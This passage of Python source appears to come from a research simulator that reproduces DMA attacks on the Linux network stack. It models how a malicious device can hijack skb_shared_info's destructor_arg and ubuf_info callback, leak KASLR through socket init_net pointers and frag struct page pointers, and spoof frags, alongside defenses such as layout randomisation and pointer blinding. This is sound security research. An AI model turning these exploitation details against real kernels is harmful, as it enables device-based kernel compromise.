    owned_frag_kvas: list[int] = field(default_factory=list)
    #: zerocopy ubuf_info object owned by this skb (0 = none)
    ubuf_kva: int = 0
    #: the (possibly __randomize_layout'd) shared-info layout this
    #: kernel build uses
    shared_info_layout: StructLayout = SKB_SHARED_INFO

    # -- geometry -------------------------------------------------------------

    @property
    def shared_info_kva(self) -> int:
        return self.head_kva + self.end_offset

    @property
    def total_len(self) -> int:
        return self.len + self.data_len

    def shared_info(self) -> BoundStruct:
        """Bind skb_shared_info at its in-buffer location."""
        paddr = self.addr_space.paddr_of_kva(self.shared_info_kva)
        return self.shared_info_layout.bind(self.phys, paddr)

    def init_shared_info(self) -> None:
        """Zero and initialize the shared info (dataref = 1).

        On the RX path this runs *after* the DMA completed; whether the
        device can scribble afterwards is exactly the time-window
        question of section 5.2.
        """
        info = self.shared_info()
        info.zero()
        info.write("dataref", 1)

    # -- linear data ------------------------------------------------------------

    def put(self, data: bytes) -> None:
        """Append bytes to the linear area (``skb_put``)."""
        if self.len + len(data) > self.buf_size:
            raise NetStackError(
                f"skb_put over capacity: {self.len}+{len(data)} > "
                f"{self.buf_size}")
        paddr = self.addr_space.paddr_of_kva(self.head_kva + self.len)
        self.phys.write(paddr, data)
        self.len += len(data)

    def data(self) -> bytes:
        """The linear payload bytes (read from memory)."""
        paddr = self.addr_space.paddr_of_kva(self.head_kva)
        return self.phys.read(paddr, self.len)

    # -- frags -------------------------------------------------------------------

    def add_frag(self, pfn: int, page_offset: int, size: int) -> None:
        """Attach a page fragment, writing the frags[] entry to memory.

        The entry's first word is a *struct page pointer* -- a vmemmap
        address. On the TX path these words are readable by the device
        and "leak kernel pointers that allow the attacker to compromise
        KASLR in addition to providing the PFNs of specific pages"
        (section 5.4, Figure 8).
        """
        info = self.shared_info()
        index = info.read("nr_frags")
        if index >= 17:
            raise NetStackError("skb frags array full")
        info.write(f"frags[{index}].page",
                   self.addr_space.struct_page_of_pfn(pfn))
        info.write(f"frags[{index}].page_offset", page_offset)
        info.write(f"frags[{index}].size", size)
        info.write("nr_frags", index + 1)
        self.data_len += size

    def frags(self) -> list[SkbFrag]:
        """Kernel-side read of the frags array *from memory*.

        Because this is a memory read, a device that spoofed frags[]
        entries (the surveillance attack, section 5.5) feeds the kernel
        attacker-chosen struct page pointers here.
        """
        info = self.shared_info()
        nr_frags = info.read("nr_frags")
        if nr_frags > 17:
            # skb_shared_info corruption: real kernels BUG() here.
            raise NetStackError(
                f"skb {self.skb_id}: corrupt shared info "
                f"(nr_frags={nr_frags})")
        out = []
        for i in range(nr_frags):
            out.append(SkbFrag(
                page_ptr=info.read(f"frags[{i}].page"),
                page_offset=info.read(f"frags[{i}].page_offset"),
                size=info.read(f"frags[{i}].size")))
        return out

    def frag_pfn(self, frag: SkbFrag) -> int:
        return self.addr_space.pfn_of_struct_page(frag.page_ptr)

    def frag_bytes(self, frag: SkbFrag) -> bytes:
        paddr = (self.frag_pfn(frag) << PAGE_SHIFT) + frag.page_offset
        return self.phys.read(paddr, frag.size)

    # -- lifecycle ------------------------------------------------------------------

    def get_dataref(self) -> int:
        return self.shared_info().read("dataref")

    def clone_ref(self) -> None:
        """Packet cloning shares the data buffer (section 5.1): bump ref."""
        info = self.shared_info()
        info.write("dataref", info.read("dataref") + 1)
