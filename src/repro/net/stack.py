"""The network stack: RX delivery, echo service, forwarding, TX, skb free.

The skb release path is the attack's detonation point (Figure 4 step
(d)): ``kfree_skb`` reads ``skb_shared_info`` *from memory*; if the
zerocopy flag is set it loads ``destructor_arg``, reads the
``ubuf_info.callback`` pointer behind it, and indirect-calls it with
the ubuf pointer in ``%rdi``. Every one of those loads observes
whatever a device managed to write -- so a hijacked pointer leads to a
genuine control-flow transfer in the executor, subject to NX/CET.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

from repro.errors import (ControlFlowViolation, ExecutionFault, NetStackError,
                          NxViolation, TranslationFault)
from repro.mem.accounting import AllocSite
from repro.net.proto import HEADER_LEN, PROTO_TCP, make_packet
from repro.net.skbuff import SKBTX_DEV_ZEROCOPY, SkBuff
from repro.net.structs import UBUF_INFO

if TYPE_CHECKING:
    from repro.net.nic import Nic
    from repro.sim.kernel import Kernel

#: sizeof-ish for struct sock (tcp_sock is ~1.7k in Linux; we use a
#: value landing in kmalloc-1024, the same cache as small-TX linear
#: buffers, reproducing the slab co-location that leaks init_net).
SOCK_STRUCT_SIZE = 600

#: Offset of the namespace pointer inside a socket object. "Every
#: network object, especially sockets, have a pointer to their
#: namespace object" init_net (section 2.4) -- the KASLR leak source.
SOCK_NET_OFFSET = 0x30

#: TX payloads up to this stay in the linear area; larger ones are
#: copied into page fragments and attached as frags.
TX_LINEAR_MAX = 192

ECHO_PORT = 7


@dataclass
class Socket:
    kva: int
    port: int
    cpu: int = 0


@dataclass
class StackEvent:
    time_us: float
    kind: str
    detail: str


@dataclass
class StackStats:
    rx_delivered: int = 0
    echoed: int = 0
    forwarded: int = 0
    dropped: int = 0
    skbs_freed: int = 0
    zerocopy_callbacks: int = 0
    oopses: int = 0


class NetworkStack:
    """One host's L3/L4 behaviour over the simulated NICs."""

    def __init__(self, kernel: "Kernel", *, forwarding: bool = False,
                 local_ips: frozenset[int] = frozenset({0x0A00_0001})
                 ) -> None:
        self.kernel = kernel
        self.forwarding = forwarding
        self.local_ips = set(local_ips)
        self.sockets: list[Socket] = []
        self.events: list[StackEvent] = []
        self.stats = StackStats()
        #: optional macOS-style XOR blinding of stored callbacks (§7)
        self.pointer_blinding = None
        #: sends of at least this many bytes use MSG_ZEROCOPY (None =
        #: applications never request zerocopy)
        self.zerocopy_threshold: int | None = None
        #: skbs delivered by drivers, awaiting softirq processing
        self.rx_backlog: list[tuple[SkBuff, "Nic"]] = []

    # -- bookkeeping -----------------------------------------------------------

    def _event(self, kind: str, detail: str) -> None:
        self.events.append(StackEvent(self.kernel.clock.now_us, kind, detail))

    def events_of(self, kind: str) -> list[StackEvent]:
        return [e for e in self.events if e.kind == kind]

    def _oops(self, reason: str) -> None:
        self.stats.oopses += 1
        self._event("oops", reason)

    # -- sockets ------------------------------------------------------------------

    def create_socket(self, port: int, *, cpu: int = 0) -> Socket:
        """Allocate a socket object; its memory carries the init_net leak."""
        kva = self.kernel.slab.kmalloc(
            SOCK_STRUCT_SIZE, cpu=cpu,
            site=AllocSite("sk_prot_alloc", 0x3A, 0x110))
        init_net_kva = self.kernel.init_net_address()
        paddr = self.kernel.addr_space.paddr_of_kva(kva)
        self.kernel.phys.write_u64(paddr + SOCK_NET_OFFSET, init_net_kva)
        sock = Socket(kva=kva, port=port, cpu=cpu)
        self.sockets.append(sock)
        return sock

    # -- RX -----------------------------------------------------------------------

    def rx(self, skb: SkBuff, nic: "Nic") -> None:
        """Driver/GRO entry point: queue the skb for softirq processing.

        The gap between enqueue and :meth:`process_backlog` is the
        real-world interval in which the paper's time-window attacks
        race the CPU (section 5.2): the buffer's shared info has been
        initialized but the skb has not yet been consumed/freed.
        """
        self.rx_backlog.append((skb, nic))

    def process_backlog(self) -> int:
        """Softirq: route every queued skb (deliver/forward/drop).

        A corrupt skb (e.g. shared info scribbled by a device) makes
        the real kernel BUG(); here it is recorded as an oops and the
        packet is abandoned, so experiments can observe the crash.
        """
        processed = 0
        while self.rx_backlog:
            skb, nic = self.rx_backlog.pop(0)
            try:
                self._route(skb, nic)
            except NetStackError as exc:
                self._oops(f"BUG: {exc}")
            processed += 1
        return processed

    def _route(self, skb: SkBuff, nic: "Nic") -> None:
        if skb.dst_ip in self.local_ips:
            self._deliver_local(skb, nic)
        elif self.forwarding:
            self._forward(skb, nic)
        else:
            self.stats.dropped += 1
            self._event("drop", f"skb {skb.skb_id} to {skb.dst_ip:#x}")
            self.kfree_skb(skb)

    def _deliver_local(self, skb: SkBuff, nic: "Nic") -> None:
        self.stats.rx_delivered += 1
        if skb.dst_port == ECHO_PORT:
            payload = skb.data()[HEADER_LEN:]
            for frag in skb.frags():
                payload += skb.frag_bytes(frag)
            self.stats.echoed += 1
            self._event("echo", f"{len(payload)} bytes from {skb.src_ip:#x}")
            self.send(payload, dst_ip=skb.src_ip, nic=nic,
                      flow_id=skb.flow_id, cpu=skb.cpu)
        else:
            self._event("deliver", f"skb {skb.skb_id} port {skb.dst_port}")
        self.kfree_skb(skb)

    def _forward(self, skb: SkBuff, nic: "Nic") -> None:
        """Packet forwarding (section 5.5): retransmit the RX skb."""
        self.stats.forwarded += 1
        self._event("forward", f"skb {skb.skb_id} to {skb.dst_ip:#x}")
        skb.source = "forward"
        nic.start_xmit(skb, cpu=skb.cpu)

    # -- TX -----------------------------------------------------------------------

    def send(self, payload: bytes, *, dst_ip: int, nic: "Nic",
             dst_port: int = 0, flow_id: int = 0, proto: int = PROTO_TCP,
             cpu: int = 0, zerocopy: bool = False) -> SkBuff:
        """Build and transmit a packet, as a socket write would."""
        if self.zerocopy_threshold is not None \
                and len(payload) >= self.zerocopy_threshold:
            zerocopy = True
        wire_header = make_packet(
            dst_ip=dst_ip, proto=proto, flow_id=flow_id, dst_port=dst_port,
            payload=b"")[:HEADER_LEN]
        # Fix up payload_len in the prebuilt header.
        wire_header = wire_header[:12] + len(payload).to_bytes(2, "little") \
            + wire_header[14:]
        if len(payload) <= TX_LINEAR_MAX:
            skb = self.kernel.skb_alloc.alloc_skb(
                HEADER_LEN + max(len(payload), TX_LINEAR_MAX), cpu=cpu,
                site=AllocSite("sk_stream_alloc_skb", 0x66, 0x190))
            skb.put(wire_header + payload)
        else:
            skb = self.kernel.skb_alloc.alloc_skb(
                256, cpu=cpu,
                site=AllocSite("sk_stream_alloc_skb", 0x66, 0x190))
            skb.put(wire_header)
            # Copy the payload into page fragments (sk_page_frag path)
            # and attach them -- this is what fills frags[] with struct
            # page pointers on the TX path (Figure 8).
            frag_kva = self.kernel.page_frag.alloc(
                len(payload), cpu=cpu,
                site=AllocSite("sk_page_frag_refill", 0x5D, 0x160))
            self.kernel.cpu_write(frag_kva, payload,
                                  site=AllocSite("skb_do_copy_data_nocache"))
            paddr = self.kernel.addr_space.paddr_of_kva(frag_kva)
            skb.add_frag(paddr >> 12, paddr & 0xFFF, len(payload))
            skb.owned_frag_kvas.append(frag_kva)
        skb.dst_ip = dst_ip
        skb.src_ip = next(iter(self.local_ips))
        skb.protocol = proto
        skb.flow_id = flow_id
        skb.dst_port = dst_port
        skb.source = "tx"
        skb.dev = nic.name
        if zerocopy:
            self._attach_zerocopy_ubuf(skb, cpu)
        nic.start_xmit(skb, cpu=cpu)
        return skb

    def _attach_zerocopy_ubuf(self, skb: SkBuff, cpu: int) -> None:
        """Legitimate MSG_ZEROCOPY setup: a real ubuf_info + callback."""
        ubuf_kva = self.kernel.slab.kmalloc(
            UBUF_INFO.size, cpu=cpu,
            site=AllocSite("sock_zerocopy_alloc", 0x2E, 0xB0))
        paddr = self.kernel.addr_space.paddr_of_kva(ubuf_kva)
        ubuf = UBUF_INFO.bind(self.kernel.phys, paddr)
        callback = self.kernel.symbol_address("sock_def_write_space")
        if self.pointer_blinding is not None:
            callback = self.pointer_blinding.blind(callback)
        ubuf.write("callback", callback)
        ubuf.write("ctx", skb.skb_kva)
        ubuf.write("desc", 0)
        info = skb.shared_info()
        info.write("tx_flags", info.read("tx_flags") | SKBTX_DEV_ZEROCOPY)
        info.write("destructor_arg", ubuf_kva)
        skb.ubuf_kva = ubuf_kva

    # -- release (the detonation point) ------------------------------------------

    def kfree_skb(self, skb: SkBuff) -> None:
        """Release an skb, running the zerocopy callback if flagged."""
        if skb.freed:
            raise NetStackError(f"double free of skb {skb.skb_id}")
        info = skb.shared_info()
        dataref = info.read("dataref")
        if dataref > 1:
            info.write("dataref", dataref - 1)
            self.kernel.slab.kfree(skb.skb_kva)
            skb.freed = True
            return
        tx_flags = info.read("tx_flags")
        if tx_flags & SKBTX_DEV_ZEROCOPY:
            self._run_zerocopy_callback(skb, info.read("destructor_arg"))
        if info.read("nr_frags") and not skb.gro_members \
                and not skb.owned_frag_kvas:
            # Linux would put_page() each frag here; pages nobody
            # accounted for corrupt page refcounts ("the OS will try
            # freeing the pages, indicated by skb_shared_info",
            # section 5.5) -- which is why the surveillance attack must
            # undo its frags spoof before TX completion.
            self._oops(f"skb {skb.skb_id}: freeing skb with "
                       f"{info.read('nr_frags')} unaccounted frags "
                       f"(bad page state)")
        for member in skb.gro_members:
            self.kfree_skb(member)
        for frag_kva in skb.owned_frag_kvas:
            self.kernel.page_frag.free(frag_kva, cpu=skb.cpu)
        if skb.ubuf_kva:
            self.kernel.slab.kfree(skb.ubuf_kva)
        self.kernel.skb_alloc.free_skb_memory(skb)
        skb.freed = True
        self.stats.skbs_freed += 1

    def _run_zerocopy_callback(self, skb: SkBuff, ubuf_ptr: int) -> None:
        """Figure 4 step (d): "When the sk_buff is released, the callback
        is invoked." All loads here come from simulated memory, so the
        device's writes (if any) are what the CPU acts on."""
        if ubuf_ptr == 0:
            return
        try:
            ubuf_paddr = self.kernel.addr_space.paddr_of_kva(ubuf_ptr)
        except TranslationFault:
            self._oops(f"skb {skb.skb_id}: destructor_arg {ubuf_ptr:#x} "
                       f"is not a valid KVA")
            return
        callback = UBUF_INFO.bind(self.kernel.phys, ubuf_paddr).read(
            "callback")
        if self.pointer_blinding is not None:
            callback = self.pointer_blinding.unblind(callback)
        if callback == 0:
            return
        self.stats.zerocopy_callbacks += 1
        try:
            result = self.kernel.executor.invoke_callback(
                callback, rdi=ubuf_ptr)
        except (NxViolation, ControlFlowViolation, ExecutionFault,
                TranslationFault) as exc:
            self._oops(f"skb {skb.skb_id}: callback fault: {exc}")
            return
        self._event("callback",
                    f"skb {skb.skb_id}: {','.join(result.functions_called)}")
