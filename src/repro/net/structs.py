"""In-memory kernel struct layouts used by the network stack.

These structs live at real offsets inside real simulated pages. The CPU
(kernel code in this package) and devices (through the IOMMU) read and
write the same bytes, so a device flipping ``destructor_arg`` is
genuinely observed by the kernel's skb-release path -- the mechanism of
Figure 4.

Field offsets track Linux 5.0's ``struct skb_shared_info`` closely
enough that the exploited facts hold: the struct sits at the end of
every skb data buffer, ``destructor_arg`` is a pointer the release path
dereferences, and ``frags[]`` entries are (struct page*, offset, size)
triples.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.errors import NetStackError
from repro.mem.phys import PhysicalMemory

#: L1 cache line; Linux's SKB_DATA_ALIGN rounds to this.
SMP_CACHE_BYTES = 64

#: Max frags per skb (MAX_SKB_FRAGS with 4 KiB pages and 64 KiB GSO).
MAX_SKB_FRAGS = 17


@dataclass(frozen=True)
class Field:
    name: str
    offset: int
    size: int
    #: marks pointers that, if attacker-controlled, redirect control flow
    is_callback: bool = False


class StructLayout:
    """A named struct layout: ordered fields with fixed offsets."""

    def __init__(self, name: str, fields: list[Field], size: int) -> None:
        self.name = name
        self.size = size
        self._fields = {f.name: f for f in fields}
        for f in fields:
            if f.offset + f.size > size:
                raise NetStackError(
                    f"{name}.{f.name} overflows struct of size {size}")

    def field(self, name: str) -> Field:
        try:
            return self._fields[name]
        except KeyError:
            raise NetStackError(
                f"struct {self.name} has no field {name!r}") from None

    def fields(self) -> list[Field]:
        return sorted(self._fields.values(), key=lambda f: f.offset)

    def callback_fields(self) -> list[Field]:
        return [f for f in self.fields() if f.is_callback]

    def bind(self, phys: PhysicalMemory, paddr: int) -> "BoundStruct":
        return BoundStruct(self, phys, paddr)


class BoundStruct:
    """A struct layout bound to a physical address: field accessors."""

    def __init__(self, layout: StructLayout, phys: PhysicalMemory,
                 paddr: int) -> None:
        self.layout = layout
        self._phys = phys
        self.paddr = paddr

    def _loc(self, field_name: str) -> tuple[int, int]:
        f = self.layout.field(field_name)
        return self.paddr + f.offset, f.size

    def read(self, field_name: str) -> int:
        paddr, size = self._loc(field_name)
        readers = {1: self._phys.read_u8, 2: self._phys.read_u16,
                   4: self._phys.read_u32, 8: self._phys.read_u64}
        return readers[size](paddr)

    def write(self, field_name: str, value: int) -> None:
        paddr, size = self._loc(field_name)
        writers = {1: self._phys.write_u8, 2: self._phys.write_u16,
                   4: self._phys.write_u32, 8: self._phys.write_u64}
        writers[size](paddr, value)

    def zero(self) -> None:
        self._phys.write(self.paddr, bytes(self.layout.size))

    def field_paddr(self, field_name: str) -> int:
        return self._loc(field_name)[0]


def _frag_fields() -> list[Field]:
    """frags[i]: bio_vec-style {struct page *page; u32 offset; u32 size}."""
    fields = []
    base = 48
    for i in range(MAX_SKB_FRAGS):
        off = base + i * 16
        fields.append(Field(f"frags[{i}].page", off, 8))
        fields.append(Field(f"frags[{i}].page_offset", off + 8, 4))
        fields.append(Field(f"frags[{i}].size", off + 12, 4))
    return fields


#: struct skb_shared_info (Linux 5.0 layout, 48-byte header + frag array).
SKB_SHARED_INFO = StructLayout(
    "skb_shared_info",
    [
        Field("__unused", 0, 1),
        Field("meta_len", 1, 1),
        Field("nr_frags", 2, 1),
        Field("tx_flags", 3, 1),
        Field("gso_size", 4, 2),
        Field("gso_segs", 6, 2),
        Field("frag_list", 8, 8),
        Field("hwtstamps", 16, 8),
        Field("gso_type", 24, 4),
        Field("tskey", 28, 4),
        Field("dataref", 32, 4),
        Field("__pad", 36, 4),
        # The callback-bearing pointer the attacks hijack (Figure 4):
        # points to a struct ubuf_info whose first field is a function
        # pointer invoked on skb release.
        Field("destructor_arg", 40, 8, is_callback=True),
    ] + _frag_fields(),
    size=48 + MAX_SKB_FRAGS * 16,
)

#: struct ubuf_info: the zerocopy completion descriptor destructor_arg
#: points at. ``callback`` is the function pointer the CPU will call.
UBUF_INFO = StructLayout(
    "ubuf_info",
    [
        Field("callback", 0, 8, is_callback=True),
        Field("ctx", 8, 8),
        Field("desc", 16, 8),
        Field("refcnt", 24, 8),
    ],
    size=32,
)


def randomized_shared_info_layout(rng) -> StructLayout:
    """A ``__randomize_layout`` variant of skb_shared_info.

    Footnote 2 of the paper: "The Linux kernel randomizes the layout of
    some data structures with __randomize_layout annotation." Like the
    GCC plugin, this permutes *all* fields: the header scalars are laid
    out in a random order (natural alignment preserved) and the frags
    array lands wherever the permutation puts it, so an attacker writing
    at the *stock* offsets corrupts arbitrary other fields instead of
    ``destructor_arg``.

    Real ``__randomize_layout`` uses a build-time seed; the defense's
    value rests on that seed being secret (self-built kernels). Here
    the permutation derives from the boot RNG and is withheld from
    :class:`AttackerKnowledge`, modeling the same secrecy assumption.
    """
    stock_destructor = SKB_SHARED_INFO.field("destructor_arg").offset
    frags_size = MAX_SKB_FRAGS * 16
    header_size = SKB_SHARED_INFO.size - frags_size
    while True:
        # Swap the header block and the frags array half the time, and
        # permute each same-size field group within the header (packing
        # stays exact, so the struct never outgrows its reservation).
        header_base = 0 if rng.random() < 0.5 else frags_size
        frags_base = header_size if header_base == 0 else 0
        groups: dict[int, list] = {}
        for f in SKB_SHARED_INFO.fields():
            if f.name.startswith("frags["):
                continue
            groups.setdefault(f.size, []).append(f)
        fields: list[Field] = []
        for size, members in groups.items():
            slots = [header_base + f.offset for f in members]
            rng.shuffle(slots)
            for f, offset in zip(members, slots):
                fields.append(Field(f.name, offset, f.size,
                                    f.is_callback))
        for f in SKB_SHARED_INFO.fields():
            if f.name.startswith("frags["):
                fields.append(Field(
                    f.name, frags_base + f.offset - header_size,
                    f.size, f.is_callback))
        layout = StructLayout("skb_shared_info(randomized)", fields,
                              SKB_SHARED_INFO.size)
        # The build system rejects a permutation identical in the field
        # that matters (otherwise 1-in-6 builds ship the stock offset).
        if layout.field("destructor_arg").offset != stock_destructor:
            return layout


def skb_data_align(size: int) -> int:
    """SKB_DATA_ALIGN: round up to the cache-line size."""
    return -(-size // SMP_CACHE_BYTES) * SMP_CACHE_BYTES


def skb_shared_info_offset(data_size: int) -> int:
    """Offset of skb_shared_info inside a data buffer of *data_size*.

    Linux places the shared info at ``SKB_DATA_ALIGN(size)``; the total
    buffer is that plus the (aligned) struct itself. Because the struct
    trails the payload on the same page(s), it is "always mapped to the
    device" with the packet's permissions (section 5.1).
    """
    return skb_data_align(data_size)


def skb_truesize(data_size: int) -> int:
    """Total buffer footprint: aligned payload + shared info."""
    return skb_data_align(data_size) + skb_data_align(SKB_SHARED_INFO.size)
