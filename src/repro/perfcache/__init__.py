"""repro.perfcache -- content-addressed caching for the analysis stack.

SPADE's cost is dominated by parsing: the Table-2 corpus is ~450 files
and ~1000 call sites, and a campaign re-analyzes a mutated copy of it
for *every* seed even though a typical mutation touches a handful of
files. This package makes that redundant work cacheable at three
levels, all keyed by content, never by timestamp:

* **per-file parse trees** -- keyed by (parser version, path, SHA-256
  of the source); a mutated file misses, every untouched file hits;
* **whole-corpus findings** -- keyed by a digest over every file hash
  plus the analyzer version and recursion depth, which makes repeat
  Table 2 / Figure 2 reports near-instant;
* **generated corpora** -- the deterministic output of
  :class:`repro.corpus.CorpusGenerator` per (seed, composition).

Two tiers: an in-process object cache (shared parse trees, no decode
cost) over an optional on-disk JSON store that campaign workers and
repeat CLI runs warm from. Correctness is enforced differentially --
``repro-dma cache verify`` and the tier-1 tests require cached and
uncached runs to produce byte-identical findings.

Environment knobs:

* ``REPRO_CACHE=off`` disables caching process-wide;
* ``REPRO_CACHE_DIR=DIR`` turns on the shared on-disk tier.
"""

from __future__ import annotations

import os

from repro.perfcache.store import (CACHE_SCHEMA, DEFAULT_MEMORY_ENTRIES,
                                   NAMESPACES, STATS_DIR, CacheStats,
                                   NamespaceUsage, PerfCache, content_key,
                                   file_digest)

__all__ = [
    "CACHE_SCHEMA", "DEFAULT_MEMORY_ENTRIES", "NAMESPACES", "STATS_DIR",
    "CacheStats", "NamespaceUsage", "PerfCache", "cache_from_env",
    "configure", "content_key", "default_cache", "file_digest",
    "reset_default",
]

_OFF_VALUES = ("off", "0", "false", "no")

#: process-wide default, created lazily from the environment
_default: PerfCache | None = None


def cache_from_env() -> PerfCache:
    """A :class:`PerfCache` honouring ``REPRO_CACHE``/``REPRO_CACHE_DIR``."""
    enabled = os.environ.get("REPRO_CACHE", "").strip().lower() \
        not in _OFF_VALUES
    directory = os.environ.get("REPRO_CACHE_DIR") or None
    return PerfCache(directory, enabled=enabled)


def default_cache() -> PerfCache:
    """The process-wide cache (memory-only unless configured)."""
    global _default
    if _default is None:
        _default = cache_from_env()
    return _default


def configure(directory: str | None = None, *,
              enabled: bool = True) -> PerfCache:
    """Replace the process-wide default (campaign workers, CLI)."""
    global _default
    _default = PerfCache(directory, enabled=enabled)
    return _default


def reset_default() -> None:
    """Drop the process-wide default so the next use re-reads the env."""
    global _default
    _default = None
