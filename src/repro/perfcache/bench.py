"""The tracked perf-benchmark driver behind ``repro-dma bench``.

Three benchmark families, one machine-readable report
(``BENCH_perf.json``):

* **spade** -- one SPADE pass over the unmutated Linux-5.0-shaped
  corpus, timed cold (empty cache, disk writes included), warm from
  the disk tier alone (a fresh process's view), and warm from the
  in-process tier; plus the uncached baseline. The report carries a
  ``identical`` bit: the cached findings must encode to byte-identical
  JSON as the uncached ones, or the cache is wrong, not fast.
* **campaign** -- differential-campaign throughput scaling: one lane
  per ``jobs`` value (``{1, 2, N}`` from the CLI) over a shared
  on-disk cache, each parallel lane recording its ``parallel_ratio``
  (seeds/s over the jobs=1 lane). The top lane's ratio is the
  ``campaign_parallel_ratio`` that ``bench --check`` hard-gates.
* **kernel** -- event rates of the two hottest simulator paths the
  perf work touched: IOTLB lookup/insert and page_frag alloc/free.
* **backends** -- the IOTLB rate per registered IOMMU backend model,
  so one artifact shows every backend's hot-path cost side by side.

Timing uses ``time.perf_counter``; every family repeats ``rounds``
times and reports the best round (standard for wall-clock benches:
the minimum is the least-noisy estimate of the true cost).
"""

from __future__ import annotations

import json
import os
import tempfile
import time

from repro import perfcache

#: bump when the report layout changes
BENCH_SCHEMA = 1

DEFAULT_OUTPUT = "BENCH_perf.json"


def _best(fn, rounds: int) -> float:
    best = None
    for _ in range(max(1, rounds)):
        start = time.perf_counter()
        fn()
        elapsed = time.perf_counter() - start
        if best is None or elapsed < best:
            best = elapsed
    return best


# -- SPADE cold vs warm ------------------------------------------------------

def bench_spade(*, scale: float = 1.0, corpus_seed: int = 2021,
                rounds: int = 1) -> dict:
    """Cold/warm/uncached SPADE timings plus the differential bit."""
    from repro.core.spade.analyzer import Spade
    from repro.corpus.generate import CorpusGenerator
    from repro.corpus.linux50 import scaled_composition
    from repro.perfcache.codec import encode_findings

    composition = scaled_composition(scale)
    tree, _manifest = CorpusGenerator(
        seed=corpus_seed, composition=composition).generate()

    def timed(run) -> tuple[float, list]:
        start = time.perf_counter()
        findings = run()
        return time.perf_counter() - start, findings

    with tempfile.TemporaryDirectory(prefix="repro-bench-") as cache_dir:
        # uncached baseline (caching off entirely)
        perfcache.configure(enabled=False)
        uncached_s, baseline = timed(lambda: Spade(tree).analyze())

        # cold: empty cache, disk writes on the critical path
        perfcache.configure(cache_dir)
        cold_s, _ = timed(lambda: Spade(tree).analyze())

        # warm from disk only: a fresh PerfCache (= fresh process)
        # over the same directory, empty in-process tier
        perfcache.configure(cache_dir)
        warm_disk_s, warm_findings = timed(lambda: Spade(tree).analyze())
        disk_stats = perfcache.default_cache().stats.to_json()

        # warm from the in-process tier (same cache object again)
        warm_memory_s, _ = timed(lambda: Spade(tree).analyze())

        identical = json.dumps(encode_findings(warm_findings)) == \
            json.dumps(encode_findings(baseline))
    perfcache.reset_default()

    return {
        "scale": scale,
        "corpus_seed": corpus_seed,
        "nr_files": len(tree.files),
        "nr_findings": len(baseline),
        "uncached_s": round(uncached_s, 6),
        "cold_s": round(cold_s, 6),
        "warm_disk_s": round(warm_disk_s, 6),
        "warm_memory_s": round(warm_memory_s, 6),
        "speedup_disk": round(cold_s / warm_disk_s, 2)
        if warm_disk_s else float("inf"),
        "speedup_memory": round(cold_s / warm_memory_s, 2)
        if warm_memory_s else float("inf"),
        "warm_disk_stats": disk_stats,
        "identical": identical,
    }


# -- campaign throughput -----------------------------------------------------

def bench_campaign(*, nr_seeds: int = 16, scale: float = 0.1,
                   jobs: tuple[int, ...] = (1, 2, 4),
                   backend: str | None = None) -> dict:
    """Seeds-per-second of the differential campaign, one lane per
    ``jobs`` value; every parallel lane records its ratio over jobs=1."""
    from repro.campaign.runner import CampaignConfig, run_campaign

    runs = []
    for nr_jobs in jobs:
        with tempfile.TemporaryDirectory(
                prefix="repro-bench-campaign-") as cache_dir:
            config = CampaignConfig(
                nr_seeds=nr_seeds, jobs=nr_jobs, scale=scale,
                output=None, trace_events=0, cache_dir=cache_dir,
                backend=backend)
            start = time.perf_counter()
            summary = run_campaign(config)
            elapsed = time.perf_counter() - start
        runs.append({
            "jobs": nr_jobs,
            "nr_seeds": nr_seeds,
            "elapsed_s": round(elapsed, 3),
            "seeds_per_s": round(nr_seeds / elapsed, 3) if elapsed
            else float("inf"),
            "nr_ok": summary.nr_ok,
            # coverage lane: recorded in history (so ``bench --check``
            # output shows drift) but never cross-gated
            "coverage_features": summary.coverage_features,
            "coverage_features_per_seed":
                summary.coverage_features_per_seed,
        })
    perfcache.reset_default()
    serial = next((run["seeds_per_s"] for run in runs
                   if run["jobs"] == 1), None)
    if serial:
        for run in runs:
            if run["jobs"] != 1:
                run["parallel_ratio"] = round(
                    run["seeds_per_s"] / serial, 4)
    return {"scale": scale, "runs": runs}


# -- per-backend hot-path rates ----------------------------------------------

def bench_backends(*, rounds: int = 3, nr_events: int = 10_000) -> dict:
    """IOTLB events/second for every registered backend model.

    A deliberately small event budget: this section exists so one
    BENCH_perf.json shows the per-backend hot-path cost side by side,
    not to gate (the default backend's full-size rate in ``kernel``
    does the gating).
    """
    from repro.backends import backend_names, resolve_backend
    from repro.iommu.domain import IovaEntry
    from repro.iommu.iotlb import Iotlb
    from repro.iommu.perms import DmaPerm

    entries = [IovaEntry(pfn, pfn + 1, DmaPerm.BIDIRECTIONAL)
               for pfn in range(512)]
    models = {}
    for name in backend_names():
        spec = resolve_backend(name)

        def iotlb_round() -> None:
            iotlb = Iotlb(capacity=256,
                          associativity=spec.iotlb_associativity,
                          replacement=spec.iotlb_replacement)
            for i in range(nr_events):
                entry = entries[i % 512]
                if iotlb.lookup(7, entry.iova_pfn) is None:
                    iotlb.insert(7, entry)

        best = _best(iotlb_round, rounds)
        models[name] = {
            "iotlb_best_s": round(best, 6),
            "iotlb_events_per_s": round(nr_events / best),
        }
    return {"nr_events": nr_events, "models": models}


# -- kernel-simulation event rates -------------------------------------------

def bench_kernel_events(*, rounds: int = 3, nr_events: int = 50_000,
                        backend: str | None = None) -> dict:
    """Best-round events/second for the IOTLB and page_frag hot paths."""
    from repro.backends import resolve_backend
    from repro.iommu.domain import IovaEntry
    from repro.iommu.iotlb import Iotlb
    from repro.iommu.perms import DmaPerm
    from repro.mem.buddy import BuddyAllocator
    from repro.mem.page_frag import PageFragCache
    from repro.mem.phys import PhysicalMemory
    from repro.mem.virt import IdentityTranslator

    entries = [IovaEntry(pfn, pfn + 1, DmaPerm.BIDIRECTIONAL)
               for pfn in range(512)]
    spec = resolve_backend(backend)

    def iotlb_round() -> None:
        # capacity pinned at 256 across backends so iotlb_events_per_s
        # measures the backend's set geometry / replacement policy,
        # not its cache size
        iotlb = Iotlb(capacity=256,
                      associativity=spec.iotlb_associativity,
                      replacement=spec.iotlb_replacement)
        for i in range(nr_events):
            entry = entries[i % 512]
            if iotlb.lookup(7, entry.iova_pfn) is None:
                iotlb.insert(7, entry)

    def frag_round() -> None:
        phys = PhysicalMemory(16384)
        buddy = BuddyAllocator(phys, reserved_low_pages=16)
        cache = PageFragCache(buddy, IdentityTranslator())
        live: list[int] = []
        for i in range(nr_events):
            live.append(cache.alloc(1856))
            if len(live) >= 8:
                cache.free(live.pop(0))

    iotlb_s = _best(iotlb_round, rounds)
    frag_s = _best(frag_round, rounds)
    return {
